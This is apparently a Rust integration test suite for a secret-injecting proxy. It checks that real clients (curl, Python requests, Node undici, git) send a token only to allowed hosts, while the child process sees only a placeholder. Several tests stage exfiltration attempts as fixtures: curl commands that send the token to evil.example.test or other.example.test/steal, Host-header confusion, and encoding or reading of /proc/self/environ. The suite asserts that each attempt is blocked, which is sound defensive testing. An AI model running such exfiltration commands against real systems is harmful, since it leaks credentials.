//! `warrant run --proxy` and `warrant proxy` with real clients (curl, Python
//! requests, Node's fetch through undici, git over HTTPS) against a local
//! TLS upstream: the value goes on the wire only towards its hosts, the
//! child holds only a placeholder, and what comes back is redacted.
//!
//! Python requests and undici are installed by `scripts/test.sh` into
//! `target/pydeps` and `target/nodedeps` (named in `WARRANT_TEST_PYDEPS` and
//! `WARRANT_TEST_NODEDEPS`).

use std::io::{BufRead, BufReader};
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::Value;

use crate::harness::{Home, Ran, fake_value, wait_child, wait_until};
use crate::proxy_upstream::Upstream;

/// The test host names; the proxy reaches the upstream for each through
/// `--resolve`.
const API: &str = "api.example.test";
const OTHER: &str = "other.example.test";
const GIT: &str = "git.example.test";

/// A home holding `api/token`, and an upstream that serves git to it.
struct Setup {
    home: Home,
    value: String,
    upstream: Upstream,
}

impl Setup {
    fn new() -> Self {
        let home = Home::new();
        let value = fake_value("api");
        home.set("api/token", &value);
        let upstream = Upstream::start(&home.scratch().join("upstream"), &value);
        Self {
            home,
            value,
            upstream,
        }
    }

    /// `warrant run --proxy --env TOKEN=warrant://api/token --host
    /// api/token=api.example.test` (and the upstream's CA and addresses),
    /// `extra`, then `-- cmd...`.
    fn run(&self, extra: &[&str], cmd: &[&str]) -> Ran {
        self.run_env(extra, cmd, &[])
    }

    fn run_env(&self, extra: &[&str], cmd: &[&str], env: &[(&str, PathBuf)]) -> Ran {
        let mut command = self.home.std_cmd();
        command
            .args(["run", "--proxy", "--no-tty"])
            .args(["--env", "TOKEN=warrant://api/token"])
            .args(["--host", &format!("api/token={API}")])
            .arg("--upstream-ca")
            .arg(&self.upstream.ca)
            .args(self.upstream.resolve_flags(&[API, OTHER, GIT]))
            .args(extra)
            .arg("--")
            .args(cmd)
            // The child's git must not read the developer's configuration.
            .env("HOME", self.home.scratch())
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_TERMINAL_PROMPT", "0")
            .stdin(Stdio::null());
        for (k, v) in env {
            command.env(k, v);
        }
        finish(command)
    }

    /// `sh -c script` under [`Setup::run`].
    fn sh(&self, extra: &[&str], script: &str) -> Ran {
        self.run(extra, &["sh", "-c", script])
    }

    /// Asserts no value reached the child's output, the home or the log.
    fn assert_no_leak(&self, ran: &Ran) {
        assert!(!ran.all().contains(&self.value), "a value leaked: {ran:?}");
        let home = String::from_utf8_lossy(&self.home.all_bytes()).into_owned();
        assert!(!home.contains(&self.value), "a value reached the home");
    }

    /// The requests the upstream saw carrying the real value.
    fn with_value(&self) -> Vec<Value> {
        self.upstream
            .seen()
            .into_iter()
            .filter(|r| r.to_string().contains(&self.value))
            .collect()
    }
}

fn finish(mut command: Command) -> Ran {
    output_of(command.output().expect("run warrant"))
}

fn output_of(output: std::process::Output) -> Ran {
    Ran {
        code: output.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    }
}

/// The placeholder the child printed as `TOKEN=...`.
fn placeholder(out: &str) -> String {
    out.lines()
        .find_map(|l| l.strip_prefix("TOKEN="))
        .unwrap_or_else(|| panic!("the child printed no TOKEN: {out}"))
        .to_owned()
}

/// A header's value in a request the upstream logged.
fn header<'a>(request: &'a Value, name: &str) -> Option<&'a str> {
    request["headers"]
        .as_array()?
        .iter()
        .find(|h| h[0].as_str().is_some_and(|n| n.eq_ignore_ascii_case(name)))
        .and_then(|h| h[1].as_str())
}

/// Whether `tool` runs here; when not, the test says so and is skipped.
fn have(tool: &str) -> bool {
    let ok = Command::new(tool)
        .arg("--version")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if !ok {
        eprintln!("SKIPPED: {tool} is not installed (scripts/test.sh installs it)");
    }
    ok
}

/// A dependency directory from `scripts/test.sh`, checked with `probe`.
fn deps(var: &str, default: &str, check: impl FnOnce(&PathBuf) -> bool) -> PathBuf {
    let dir = std::env::var_os(var).map_or_else(
        || PathBuf::from(env!("CARGO_MANIFEST_DIR")).join(default),
        PathBuf::from,
    );
    assert!(
        check(&dir),
        "a test dependency is missing from {}; run scripts/test.sh, which installs it",
        dir.display()
    );
    dir
}

const CURL_ECHO: &str = r#"env | grep -E '^(TOKEN|HTTPS_PROXY|https_proxy|NO_PROXY|SSL_CERT_FILE|NODE_USE_ENV_PROXY)='
curl -sS -i -H "Authorization: Bearer $TOKEN" https://api.example.test/echo"#;

#[test]
fn curl_sends_the_value_upstream_while_the_child_holds_a_placeholder() {
    if !have("curl") {
        return;
    }
    let s = Setup::new();
    let ran = s.sh(&[], CURL_ECHO);
    assert_eq!(ran.code, 0, "{ran:?}");
    let placeholder = placeholder(&ran.stdout);
    assert!(placeholder.starts_with("wph_"), "{placeholder}");
    assert!(
        ran.stdout.contains("HTTPS_PROXY=http://127.0.0.1:"),
        "{ran:?}"
    );
    assert!(ran.stdout.contains("https_proxy=http://127.0.0.1:"));
    assert!(ran.stdout.contains("NO_PROXY=\n"), "{ran:?}");
    assert!(ran.stdout.contains("SSL_CERT_FILE=/"));
    assert!(ran.stdout.contains("NODE_USE_ENV_PROXY=1"));

    // The upstream got the real value, once, and never the placeholder.
    let seen = s.upstream.seen();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0]["host"], API);
    assert_eq!(
        header(&seen[0], "authorization"),
        Some(format!("Bearer {}", s.value).as_str())
    );
    assert!(!s.upstream.seen_text().contains(&placeholder));

    // Its echo (body and header) comes back redacted.
    assert!(ran.stdout.contains("200"), "{ran:?}");
    assert!(
        ran.stdout.contains("Bearer <redacted:api/token>"),
        "{ran:?}"
    );
    s.assert_no_leak(&ran);

    let audit = s.home.audit_text();
    let subs = s.home.audit_events("proxy_substituted");
    assert_eq!(subs.len(), 1, "{audit}");
    assert_eq!(subs[0]["host"], API);
    assert_eq!(subs[0]["secrets"], serde_json::json!(["api/token"]));
    // The run is recorded, and no process of it held the value.
    let runs = s.home.audit_events("run");
    assert_eq!(runs[0]["env_secrets"], serde_json::json!([]));
    assert!(!audit.contains(&s.value));
}

/// `--file`: the in-memory file holds the placeholder, which works as well.
#[test]
fn a_file_reference_holds_the_placeholder() {
    if !have("curl") {
        return;
    }
    let s = Setup::new();
    let ran = s.sh(
        &["--file", "TOKEN_FILE=warrant://api/token"],
        r#"echo "TOKEN=$(cat "$TOKEN_FILE")"; curl -sS -H "Authorization: Bearer $(cat "$TOKEN_FILE")" https://api.example.test/echo"#,
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    assert!(placeholder(&ran.stdout).starts_with("wph_"), "{ran:?}");
    assert_eq!(s.with_value().len(), 1);
    assert!(
        ran.stdout.contains("Bearer <redacted:api/token>"),
        "{ran:?}"
    );
    s.assert_no_leak(&ran);
}

#[test]
fn python_requests_goes_through_the_proxy() {
    if !have("python3") {
        return;
    }
    let pydeps = deps("WARRANT_TEST_PYDEPS", "../../target/pydeps", |dir| {
        Command::new("python3")
            .args(["-c", "import requests"])
            .env("PYTHONPATH", dir)
            .status()
            .is_ok_and(|s| s.success())
    });
    let s = Setup::new();
    let script = r#"
import os, requests
print("TOKEN=" + os.environ["TOKEN"])
r = requests.get("https://api.example.test/echo",
                 headers={"Authorization": "Bearer " + os.environ["TOKEN"]}, timeout=20)
print(r.status_code)
print("header:", r.headers["X-Echo-Authorization"])
print("body:", r.json()["headers"])
"#;
    let ran = s.run_env(&[], &["python3", "-c", script], &[("PYTHONPATH", pydeps)]);
    assert_eq!(ran.code, 0, "{ran:?}");
    assert!(ran.stdout.contains("\n200\n"), "{ran:?}");
    assert!(
        ran.stdout.contains("header: Bearer <redacted:api/token>"),
        "{ran:?}"
    );
    assert_eq!(s.with_value().len(), 1);
    assert!(!s.upstream.seen_text().contains(&placeholder(&ran.stdout)));
    s.assert_no_leak(&ran);
}

#[test]
fn node_fetch_goes_through_the_proxy_with_undici_env_agent() {
    if !have("node") {
        return;
    }
    let nodedeps = deps("WARRANT_TEST_NODEDEPS", "../../target/nodedeps", |dir| {
        Command::new("node")
            .args([
                "-e",
                "process.exit(require('undici').EnvHttpProxyAgent ? 0 : 1)",
            ])
            .env("NODE_PATH", dir.join("node_modules"))
            .status()
            .is_ok_and(|s| s.success())
    });
    let s = Setup::new();
    // Node 20's own fetch ignores HTTPS_PROXY; undici's EnvHttpProxyAgent
    // reads it, and NODE_EXTRA_CA_CERTS makes Node trust the bundle.
    let script = r#"
const { EnvHttpProxyAgent, setGlobalDispatcher, fetch } = require("undici");
setGlobalDispatcher(new EnvHttpProxyAgent());
(async () => {
  console.log("TOKEN=" + process.env.TOKEN);
  const r = await fetch("https://api.example.test/echo",
                        { headers: { Authorization: "Bearer " + process.env.TOKEN } });
  console.log(r.status);
  console.log("header: " + r.headers.get("x-echo-authorization"));
  console.log("body: " + await r.text());
})().catch((e) => { console.error(e); process.exit(1); });
"#;
    let ran = s.run_env(
        &[],
        &["node", "-e", script],
        &[("NODE_PATH", nodedeps.join("node_modules"))],
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    assert!(ran.stdout.contains("\n200\n"), "{ran:?}");
    assert!(
        ran.stdout.contains("header: Bearer <redacted:api/token>"),
        "{ran:?}"
    );
    assert_eq!(s.with_value().len(), 1);
    s.assert_no_leak(&ran);
}

#[test]
fn git_clones_over_https_with_the_placeholder_in_a_header() {
    if !have("git") {
        return;
    }
    let s = Setup::new();
    let content = "the repository behind a token\n";
    s.upstream.make_repo(content);
    let ran = s.sh(
        &["--host", &format!("api/token={GIT}")],
        r#"git -c http.extraHeader="Authorization: Bearer $TOKEN" clone -q https://git.example.test/repo.git clone && cat clone/README && git -C clone config --list"#,
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    assert!(ran.stdout.contains(content), "{ran:?}");
    // Every request of the clone carried the real value (the backend
    // refuses anything else), and the clone keeps no credential.
    let seen = s.upstream.seen();
    assert!(seen.len() >= 2, "{seen:?}");
    assert!(seen.iter().all(|r| r["host"] == GIT));
    assert_eq!(s.with_value().len(), seen.len());
    s.assert_no_leak(&ran);
}

#[test]
fn without_a_placeholder_in_the_request_the_backend_refuses_git() {
    if !have("git") {
        return;
    }
    let s = Setup::new();
    s.upstream.make_repo("x\n");
    let ran = s.sh(
        &["--host", &format!("api/token={GIT}")],
        "git clone -q https://git.example.test/repo.git clone",
    );
    assert_ne!(ran.code, 0, "{ran:?}");
    assert!(s.with_value().is_empty());
}

/// What the child can do with its environment: print it, encode it,
/// reverse it. In environment-injection mode that defeats the redactor; in
/// proxy mode there is nothing to find.
#[test]
fn a_child_that_encodes_its_environment_only_reveals_a_placeholder() {
    let s = Setup::new();
    let script = r#"echo "TOKEN=$TOKEN"; printf %s "$TOKEN" | rev; echo; printf %s "$TOKEN" | base64; cat /proc/self/environ | tr '\0' '\n' | grep -c . >/dev/null"#;
    let ran = s.sh(&[], script);
    assert_eq!(ran.code, 0, "{ran:?}");
    let placeholder = placeholder(&ran.stdout);
    let reversed: String = s.value.chars().rev().collect();
    assert!(!ran.stdout.contains(&reversed), "{ran:?}");
    assert!(
        !ran.stdout.contains("<redacted:"),
        "nothing to redact: {ran:?}"
    );
    let placeholder_reversed: String = placeholder.chars().rev().collect();
    assert!(ran.stdout.contains(&placeholder_reversed));
    s.assert_no_leak(&ran);

    // The same child with the value injected (no --proxy) leaks it reversed.
    let (code, out, _) = crate::harness::run_sh(
        &s.home,
        &["--no-tty", "--env", "TOKEN=warrant://api/token"],
        "printf %s \"$TOKEN\" | rev",
    );
    assert_eq!(code, 0);
    assert!(
        out.contains(&reversed),
        "environment injection is expected to leak a reversed value"
    );
}

/// A second secret makes the proxy intercept `other.example.test`; the
/// first one's placeholder sent there is refused, audited, and never
/// reaches the server.
#[test]
fn a_placeholder_sent_to_a_host_not_allowed_is_blocked_and_audited() {
    if !have("curl") {
        return;
    }
    let s = Setup::new();
    s.home.set("other/token", &fake_value("other"));
    let ran = s.sh(
        &[
            "--env",
            "OTHER=warrant://other/token",
            "--host",
            &format!("other/token={OTHER}"),
        ],
        r#"echo "TOKEN=$TOKEN"; curl -sS -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $TOKEN" https://other.example.test/steal"#,
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    assert!(ran.stdout.contains("403"), "{ran:?}");
    assert!(ran.stderr.contains("blocked GET"), "{ran:?}");
    assert!(s.upstream.seen().is_empty(), "{:?}", s.upstream.seen());
    let blocked = s.home.audit_events("proxy_blocked");
    assert_eq!(blocked.len(), 1, "{}", s.home.audit_text());
    assert_eq!(blocked[0]["host"], OTHER);
    assert_eq!(blocked[0]["secrets"], serde_json::json!(["api/token"]));
    assert_eq!(blocked[0]["path"], "/steal");
    let reason = blocked[0]["reason"].as_str().unwrap();
    assert!(reason.starts_with("exfiltration attempt: "), "{reason}");
    assert!(s.home.audit_events("proxy_substituted").is_empty());
    s.assert_no_leak(&ran);
}

/// Plain HTTP to any other host, the placeholder in the query: refused,
/// even where connections to other hosts are let through.
#[test]
fn a_placeholder_in_a_plain_http_url_to_another_host_is_blocked() {
    if !have("curl") {
        return;
    }
    let s = Setup::new();
    let ran = s.sh(
        &["--passthrough"],
        r#"curl -sS -o /dev/null -w '%{http_code}\n' "http://evil.example.test/collect?t=$TOKEN""#,
    );
    assert!(ran.stdout.contains("403"), "{ran:?}");
    assert!(s.upstream.seen().is_empty());
    assert_eq!(s.home.audit_events("proxy_blocked").len(), 1);
}

/// Connected to the allowed host, but the request names another one.
#[test]
fn host_header_confusion_is_blocked() {
    if !have("curl") {
        return;
    }
    let s = Setup::new();
    let ran = s.sh(
        &[],
        r#"curl -sS -o /dev/null -w '%{http_code}\n' -H "Host: other.example.test" -H "Authorization: Bearer $TOKEN" https://api.example.test/echo"#,
    );
    assert!(ran.stdout.contains("403"), "{ran:?}");
    assert!(s.upstream.seen().is_empty(), "{:?}", s.upstream.seen());
    assert_eq!(
        s.home.audit_events("proxy_blocked").len(),
        1,
        "{}",
        s.home.audit_text()
    );
    s.assert_no_leak(&ran);
}

/// The allowed host redirects elsewhere; even a client that resends the
/// credential (curl --location-trusted) sends only the placeholder on.
#[test]
fn a_redirect_to_another_host_carries_no_value() {
    if !have("curl") {
        return;
    }
    let s = Setup::new();
    // The tunnel to the other host is not intercepted: the child must
    // trust that server's own CA as well.
    let script = format!(
        r#"echo "TOKEN=$TOKEN"; cat "$SSL_CERT_FILE" {ca} > both.pem
curl -sS -L --location-trusted --cacert both.pem -H "Authorization: Bearer $TOKEN" "https://api.example.test/redirect?to=https://other.example.test/echo""#,
        ca = s.upstream.ca.display()
    );
    let ran = s.sh(&["--passthrough"], &script);
    assert_eq!(ran.code, 0, "{ran:?}");
    let placeholder = placeholder(&ran.stdout);
    let seen = s.upstream.seen();
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert_eq!(seen[0]["host"], API);
    assert_eq!(
        header(&seen[0], "authorization"),
        Some(format!("Bearer {}", s.value).as_str())
    );
    // Tunnelled untouched: the other host got the placeholder, no value.
    assert_eq!(seen[1]["host"], OTHER);
    assert_eq!(
        header(&seen[1], "authorization"),
        Some(format!("Bearer {placeholder}").as_str())
    );
    s.assert_no_leak(&ran);
}

/// Without --passthrough a host no secret needs is not reached at all.
#[test]
fn hosts_no_secret_needs_are_refused_without_passthrough() {
    if !have("curl") {
        return;
    }
    let s = Setup::new();
    let ran = s.sh(&[], "curl -sS https://other.example.test/echo");
    assert_ne!(ran.code, 0, "{ran:?}");
    assert!(
        ran.stderr
            .contains("refused a connection to other.example.test"),
        "{ran:?}"
    );
    assert!(s.upstream.seen().is_empty());
}

/// The server echoes the credential; what the child saves to files (out
/// of reach of the output redactor) is redacted by the proxy already.
#[test]
fn a_server_echoing_the_credential_is_redacted_before_the_child_reads_it() {
    if !have("curl") {
        return;
    }
    let s = Setup::new();
    let dir = s.home.scratch();
    let script = format!(
        r#"curl -sS -D {d}/headers -o {d}/body -H "Authorization: Bearer $TOKEN" https://api.example.test/echo"#,
        d = dir.display()
    );
    let ran = s.sh(&[], &script);
    assert_eq!(ran.code, 0, "{ran:?}");
    let headers = std::fs::read_to_string(dir.join("headers")).unwrap();
    let body = std::fs::read_to_string(dir.join("body")).unwrap();
    assert_eq!(s.with_value().len(), 1);
    for text in [&headers, &body] {
        assert!(!text.contains(&s.value), "{text}");
        assert!(text.contains("Bearer <redacted:api/token>"), "{text}");
    }
}

#[test]
fn every_secret_needs_a_host_and_grants_take_no_resolve() {
    let s = Setup::new();
    let ran = s.home.run(&[
        "run",
        "--proxy",
        "--env",
        "TOKEN=warrant://api/token",
        "--",
        "true",
    ]);
    assert_eq!(ran.code, 125, "{ran:?}");
    assert!(
        ran.stderr.contains("warrant://api/token has no --host"),
        "{ran:?}"
    );

    let ran = s.home.run(&[
        "run",
        "--proxy",
        "--grant",
        "g_x",
        "--resolve",
        "api.example.test=127.0.0.1:1",
        "--env",
        "TOKEN=warrant://api/token",
        "--",
        "true",
    ]);
    assert_eq!(ran.code, 125, "{ran:?}");
    assert!(
        ran.stderr
            .contains("--resolve and --upstream-ca cannot be used with a grant"),
        "{ran:?}"
    );

    // --host without --proxy is refused by the parser.
    let ran = s.home.run(&["run", "--host", "a=b", "--", "true"]);
    assert_eq!(ran.code, 2, "{ran:?}");
}

// ---- Under a grant: the daemon substitutes, checks and audits. ----

/// A policy letting `web` send `api/token` to `localhost` on the upstream's
/// port (`{PORT}`, filled in when it runs; its certificate covers
/// `localhost`, and it needs no `--resolve`).
const GRANT_POLICY: &str = r#"
[actors.web]
kind = "agent"

[[rules]]
actors   = ["web"]
secrets  = ["api/token"]
hosts    = ["localhost:{PORT}"]
max_ttl  = "10m"
approval = "auto"
"#;

/// A home with a daemon, `api/token`, an upstream, and an active grant.
fn granted() -> (Setup, crate::harness::Daemon, String) {
    granted_under(GRANT_POLICY)
}

/// [`granted`] under another policy.
fn granted_under(policy: &str) -> (Setup, crate::harness::Daemon, String) {
    let home = Home::with_approver();
    let value = fake_value("api");
    home.set("api/token", &value);
    let upstream = Upstream::start(&home.scratch().join("upstream"), &value);
    home.write_policy(&policy.replace("{PORT}", &upstream.addr.port().to_string()));
    // The daemon's egress trusts the upstream's CA because `warrant serve`
    // was told so, never because a command says so.
    let daemon = home.serve_with(&["--egress-ca".as_ref(), upstream.ca.as_os_str()]);
    let (id, status) = home.request("web", &["api/token"], &[]);
    assert_eq!(status, "active");
    (
        Setup {
            home,
            value,
            upstream,
        },
        daemon,
        id,
    )
}

#[test]
fn under_a_grant_the_daemon_substitutes_and_the_proxy_redacts() {
    if !have("curl") {
        return;
    }
    let (s, _daemon, id) = granted();
    let url = format!("https://localhost:{}/echo", s.upstream.addr.port());
    let mut command = s.home.std_cmd();
    command
        .args(["run", "--proxy", "--no-tty", "--passthrough", "--grant", &id])
        .args(["--env", "TOKEN=warrant://api/token"])
        .args(["--", "sh", "-c"])
        .arg(format!(
            r#"curl -sS -i -H "Authorization: Bearer $TOKEN" {url}; curl -sS -o /dev/null -w '%{{http_code}}\n' "http://evil.example.test/?t=$TOKEN""#
        ))
        .stdin(Stdio::null());
    let ran = finish(command);
    assert_eq!(ran.code, 0, "{ran:?}");
    // No output redactor here (this process never held the value): the
    // response was redacted by the proxy.
    assert!(
        ran.stdout.contains("Bearer <redacted:api/token>"),
        "{ran:?}"
    );
    assert!(ran.stdout.contains("403"), "{ran:?}");
    assert_eq!(s.with_value().len(), 1);
    s.assert_no_leak(&ran);

    let audit = s.home.audit_text();
    let subs = s.home.audit_events("substituted");
    assert_eq!(subs.len(), 1, "{audit}");
    assert_eq!(subs[0]["grant"], id.as_str());
    assert_eq!(subs[0]["host"], "localhost");
    // The attempt on another host is the daemon's record: its egress saw it.
    let blocked = s.home.audit_events("proxy_blocked");
    assert_eq!(blocked.len(), 1, "{audit}");
    assert_eq!(blocked[0]["grant"], id.as_str());
    assert!(
        blocked[0]["reason"]
            .as_str()
            .unwrap()
            .contains("exfiltration attempt"),
        "{audit}"
    );
    assert_eq!(blocked[0]["host"], "evil.example.test");
    // The child held no value: no grant_used, no process of the agent's.
    assert!(s.home.audit_events("grant_used").is_empty(), "{audit}");
}

/// `warrant proxy --grant ID --json` in the background: the process, the
/// placeholder of `api/token`, and the settings it printed.
fn foreground_proxy(s: &Setup, id: &str) -> (std::process::Child, String, Value) {
    let mut proxy = s
        .home
        .std_cmd()
        .args(["proxy", "--grant", id, "--json"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("warrant proxy");
    let mut text = String::new();
    let mut out = BufReader::new(proxy.stdout.take().unwrap());
    while !text.ends_with("}\n") {
        let mut line = String::new();
        if out.read_line(&mut line).unwrap() == 0 {
            panic!("warrant proxy ended: {text}");
        }
        text.push_str(&line);
    }
    let settings: Value = serde_json::from_str(&text).unwrap();
    let placeholder = settings["placeholders"]["api/token"]
        .as_str()
        .unwrap()
        .to_owned();
    (proxy, placeholder, settings)
}

/// `curl` through the proxy `settings` describe: the status and the body.
fn curl_through(settings: &Value, placeholder: &str, url: &str) -> (String, String) {
    let mut curl = Command::new("curl");
    curl.args(["-sS", "-w", "\n%{http_code}", "-H"])
        .arg(format!("Authorization: Bearer {placeholder}"))
        .arg(url);
    for (var, value) in settings["env"].as_object().unwrap() {
        curl.env(var, value.as_str().unwrap());
    }
    let done = curl.output().unwrap();
    let out = String::from_utf8_lossy(&done.stdout).into_owned();
    let (body, status) = out.rsplit_once('\n').unwrap_or(("", &out));
    (status.to_owned(), body.to_owned())
}

/// The daemon's egress holds a lease: one check, then each request is
/// recorded as a use. Revoking the grant stops the egress at once: the
/// next request gets nowhere, nothing more goes upstream, and `warrant
/// proxy` says so and exits.
#[test]
fn revoking_the_grant_stops_a_running_proxy() {
    if !have("curl") {
        return;
    }
    let (s, _daemon, id) = granted();
    let (mut proxy, placeholder, settings) = foreground_proxy(&s, &id);
    let url = format!("https://localhost:{}/echo", s.upstream.addr.port());
    for _ in 0..3 {
        let (status, body) = curl_through(&settings, &placeholder, &url);
        assert_eq!(status, "200", "{body}");
        assert!(body.contains("Bearer <redacted:api/token>"), "{body}");
    }
    assert_eq!(s.with_value().len(), 3);
    assert_eq!(s.home.audit_events("proxy_lease").len(), 1);
    // Reports arrive just after the requests.
    assert!(
        wait_until(Duration::from_secs(10), || s
            .home
            .audit_events("substituted")
            .len()
            == 3),
        "{}",
        s.home.audit_text()
    );
    let uses: Vec<u64> = s
        .home
        .audit_events("substituted")
        .iter()
        .map(|e| e["use_number"].as_u64().unwrap())
        .collect();
    assert_eq!(uses, [1, 2, 3]);

    assert_eq!(s.home.run(&["revoke", &id]).code, 0);
    // The egress stops at once; from then on no request reaches anything.
    let status = wait_child(&mut proxy, Duration::from_secs(10)).expect("warrant proxy ended");
    assert_eq!(status.code(), Some(1), "it says the grant ended");
    let (after, _) = curl_through(&settings, &placeholder, &url);
    assert_eq!(after, "000", "the egress still answers after revocation");
    assert_eq!(
        s.with_value().len(),
        3,
        "a value went upstream after revocation"
    );
}

/// A grant with a use limit gets no lease: each request is counted by the
/// daemon before its value leaves, and the limit holds.
#[test]
fn a_use_limited_grant_is_counted_request_by_request() {
    if !have("curl") {
        return;
    }
    let policy = GRANT_POLICY.replace("approval = \"auto\"", "approval = \"auto\"\nmax_uses = 2");
    let (s, _daemon, id) = granted_under(&policy);
    let (mut proxy, placeholder, settings) = foreground_proxy(&s, &id);
    let url = format!("https://localhost:{}/echo", s.upstream.addr.port());
    let statuses: Vec<String> = (0..3)
        .map(|_| curl_through(&settings, &placeholder, &url).0)
        .collect();
    assert_eq!(statuses, ["200", "200", "403"]);
    assert_eq!(s.with_value().len(), 2);
    assert!(s.home.audit_events("proxy_lease").is_empty());
    assert_eq!(s.home.audit_events("substituted").len(), 2);
    let _ = proxy.kill();
    let _ = proxy.wait();
}

#[test]
fn warrant_proxy_serves_a_grant_in_the_foreground() {
    if !have("curl") {
        return;
    }
    let (s, _daemon, id) = granted();
    let (mut proxy, placeholder, settings) = foreground_proxy(&s, &id);
    let bundle = PathBuf::from(settings["ca_bundle"].as_str().unwrap());
    assert!(bundle.exists());
    let url = format!("https://localhost:{}/echo", s.upstream.addr.port());
    let (status, body) = curl_through(&settings, &placeholder, &url);
    assert_eq!(status, "200", "{body}");
    assert!(body.contains("Bearer <redacted:api/token>"), "{body}");
    assert_eq!(s.with_value().len(), 1);

    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(proxy.id() as i32),
        nix::sys::signal::Signal::SIGTERM,
    )
    .unwrap();
    let status = wait_child(&mut proxy, Duration::from_secs(10)).expect("the proxy stopped");
    assert!(status.success());
    assert!(!bundle.exists(), "the CA bundle was left behind");
    assert_eq!(s.home.audit_events("substituted").len(), 1);
}

/// The recommended setup: the agent under `warrant task` cannot read the
/// home (so neither the CA key nor the audit log); the proxy signs with a
/// CA of its own for the run, and the daemon records the use and the block.
#[test]
fn inside_a_task_the_proxy_works_without_the_home() {
    if !have("curl") {
        return;
    }
    let (s, _daemon, _) = granted();
    let script = format!(
        r#"id=$(warrant request --secret api/token --reason task --ttl 1m --json | sed -n 's/.*"id": "\(g_[^"]*\)".*/\1/p')
warrant run --proxy --no-tty --passthrough --grant "$id" --env TOKEN=warrant://api/token -- sh -c '
  cat "$WARRANT_HOME/proxy-ca.key" >/dev/null 2>&1 && echo "home key readable"
  curl -sS -H "Authorization: Bearer $TOKEN" https://localhost:{port}/echo; echo
  curl -sS -o /dev/null -w "%{{http_code}}\n" "http://evil.example.test/?t=$TOKEN"'"#,
        port = s.upstream.addr.port(),
    );
    // The test's home sits in the system's temporary directory, where the
    // sandbox lets nothing new be made (an ancestor of the home); a real
    // home (~/.local/share/warrant) is not below it.
    let tmp = s.home.scratch().join("tmp");
    std::fs::create_dir_all(&tmp).unwrap();
    let task = output_of(
        s.home
            .task_cmd(&["--actor", "web"], &script)
            .env("TMPDIR", &tmp)
            .output()
            .unwrap(),
    );
    assert_eq!(task.code, 0, "{task:?}");
    assert!(!task.stdout.contains("home key readable"), "{task:?}");
    assert!(
        task.stdout.contains("Bearer <redacted:api/token>"),
        "{task:?}"
    );
    assert!(task.stdout.contains("403"), "{task:?}");
    assert_eq!(s.with_value().len(), 1);
    assert!(!task.all().contains(&s.value));
    let audit = s.home.audit_text();
    assert_eq!(s.home.audit_events("substituted").len(), 1, "{audit}");
    let blocked = s.home.audit_events("proxy_blocked");
    assert_eq!(blocked.len(), 1, "{audit}");
    assert_eq!(blocked[0]["actor"], "web");
    assert!(
        blocked[0]["reason"]
            .as_str()
            .unwrap()
            .contains("exfiltration attempt")
    );
    assert!(!audit.contains(&s.value));
}

#[test]
fn a_proxy_only_task_gets_placeholders_and_no_process_of_it_gets_a_value() {
    if !have("curl") {
        return;
    }
    let (s, _daemon, _) = granted();
    let script = format!(
        r#"id=$(warrant request --secret api/token --reason task --ttl 1m --json | sed -n 's/.*"id": "\(g_[^"]*\)".*/\1/p')
warrant run --no-tty --passthrough --grant "$id" --env TOKEN=warrant://api/token -- sh -c '
  echo "held:$TOKEN"
  curl -sS -H "Authorization: Bearer $TOKEN" https://localhost:{port}/echo; echo
  curl -sS -o /dev/null -w "confused:%{{http_code}}\n" -H "Host: other.example" -H "Authorization: Bearer $TOKEN" https://localhost:{port}/echo'
WARRANT_PROXY=0 warrant run --no-tty --grant "$id" --env TOKEN=warrant://api/token -- sh -c 'echo "raw:$TOKEN"'
echo "plain-run-exit:$?""#,
        port = s.upstream.addr.port(),
    );
    let tmp = s.home.scratch().join("tmp");
    std::fs::create_dir_all(&tmp).unwrap();
    let task = output_of(
        s.home
            .task_cmd(&["--actor", "web", "--proxy"], &script)
            .env("TMPDIR", &tmp)
            .output()
            .unwrap(),
    );
    assert_eq!(task.code, 0, "{task:?}");
    // `warrant run --grant` under the task used the proxy by itself.
    assert!(task.stdout.contains("held:wph_"), "{task:?}");
    assert!(
        task.stdout.contains("Bearer <redacted:api/token>"),
        "{task:?}"
    );
    assert_eq!(s.with_value().len(), 1, "the upstream got the value once");
    // Asking for the value itself is refused by the daemon.
    assert!(task.stdout.contains("plain-run-exit:125"), "{task:?}");
    assert!(!task.stdout.contains("raw:"), "{task:?}");
    assert!(!task.all().contains(&s.value));
    let refused = s.home.audit_events("use_refused");
    assert!(
        refused.iter().any(|r| r["reason"]
            .as_str()
            .unwrap()
            .contains("takes values only through the proxy")),
        "{refused:?}"
    );
    let started = s.home.audit_events("task_started");
    assert_eq!(started[0]["proxy_only"], true);
    // The host confusion was refused, and the daemon recorded it for the
    // proxy, which cannot write the log from inside the task.
    assert!(task.stdout.contains("confused:403"), "{task:?}");
    let blocked = s.home.audit_events("proxy_blocked");
    assert_eq!(blocked.len(), 1, "{blocked:?}");
    assert_eq!(blocked[0]["actor"], "web");
    assert_eq!(blocked[0]["secrets"], serde_json::json!(["api/token"]));
    assert_eq!(s.with_value().len(), 1, "nothing more reached the upstream");
}
